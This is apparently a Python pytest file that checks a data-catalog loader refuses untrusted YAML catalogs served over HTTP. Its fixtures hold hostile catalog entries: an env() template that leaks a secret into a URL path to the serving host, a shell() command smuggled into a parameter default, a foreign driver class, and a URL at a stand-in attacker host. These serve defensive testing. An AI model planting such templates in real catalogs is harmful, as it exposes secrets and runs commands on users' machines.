"""Shared catalogs served over loopback HTTP cannot read secrets, run commands, load foreign drivers or
reach foreign hosts; the same catalog trusted and local behaves as intake normally does."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

import perc_platform as pp
from perc_platform.catalogs import UnsafeCatalogError, check_catalog
from perc_platform.testing import write_stack

HOSTILE = {
    "env": """
        sources:
          leak:
            driver: mrc_stack
            args:
              urlpath: "http://{host}/{{{{ env('PERC_TEST_SECRET') }}}}.mrcs"
    """,
    "shell": """
        sources:
          run:
            driver: mrc_stack
            parameters:
              who:
                type: str
                default: "shell(touch {marker})"
            args:
              urlpath: "{{{{ who }}}}"
    """,
    "driver": """
        sources:
          evil:
            driver: some_package.EvilSource
            args: {{}}
    """,
    "host": """
        sources:
          elsewhere:
            driver: mrc_stack
            args:
              urlpath: "https://attacker.example.org/stack.mrcs"
    """,
    "nested": """
        sources:
          inner:
            driver: yaml_file_cat
            args:
              path: "{{{{ CATALOG_DIR }}}}/inner_env.yaml"
    """,
}
INNER_ENV = """
sources:
  leak:
    driver: mrc_stack
    args:
      urlpath: "{{ env('PERC_TEST_SECRET') }}"
"""


@pytest.fixture
def hostile_dir(tmp_path: Path) -> Path:
    return tmp_path


@pytest.mark.parametrize(("kind", "message"), [("env", "env"), ("shell", "shell"), ("driver", "EvilSource"),
                                               ("host", "attacker.example.org"), ("nested", "env")])
def test_hostile_catalog_over_http_is_refused(hostile_dir: Path, server_factory, monkeypatch: pytest.MonkeyPatch,
                                              kind: str, message: str) -> None:
    monkeypatch.setenv("PERC_TEST_SECRET", "hunter2")
    srv = server_factory(hostile_dir)
    marker = hostile_dir / "pwned"
    host = srv.url.split("://", 1)[1]
    (hostile_dir / f"{kind}.yaml").write_text(textwrap.dedent(HOSTILE[kind]).format(host=host, marker=marker))
    (hostile_dir / "inner_env.yaml").write_text(INNER_ENV)
    with pytest.raises(UnsafeCatalogError, match=message) as info:
        cat = pp.open_catalog(f"{srv.url}/{kind}.yaml")
        for name in cat:  # were it opened, touching the entries would expand the templates
            cat[name]
    assert "hunter2" not in str(info.value)
    assert not marker.exists()
    assert not any("hunter2" in r.path for r in srv.requests)


def test_safe_catalog_over_http_opens_and_reads(tmp_path: Path, server_factory) -> None:
    write_stack(tmp_path / "s.mrcs", 5, (8, 8))
    srv = server_factory(tmp_path)
    (tmp_path / "lab.yaml").write_text(textwrap.dedent(f"""
        sources:
          stack:
            driver: mrc_stack
            args:
              urlpath: "{srv.url}/s.mrcs"
    """))
    cat = pp.open_catalog(f"{srv.url}/lab.yaml")
    assert cat.stack.to_dask()["image"].shape == (5, 8, 8)


def test_trusted_local_catalog_behaves_as_intake(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write_stack(tmp_path / "secret_name.mrcs", 3, (8, 8))
    monkeypatch.setenv("PERC_TEST_SECRET", "secret_name")
    (tmp_path / "env.yaml").write_text(textwrap.dedent("""
        sources:
          mine:
            driver: mrc_stack
            args:
              urlpath: "{{ CATALOG_DIR }}/{{ env('PERC_TEST_SECRET') }}.mrcs"
    """))
    with pytest.raises(UnsafeCatalogError):
        pp.open_catalog(tmp_path / "env.yaml")
    cat = pp.open_catalog(tmp_path / "env.yaml", trusted=True)
    assert cat.mine.to_dask()["image"].shape == (3, 8, 8)  # env() expanded, as intake does


def test_shipped_catalogs_pass_the_check() -> None:
    spec = check_catalog(str(pp.catalogs.catalog_path()))
    assert "demo" in spec["sources"]
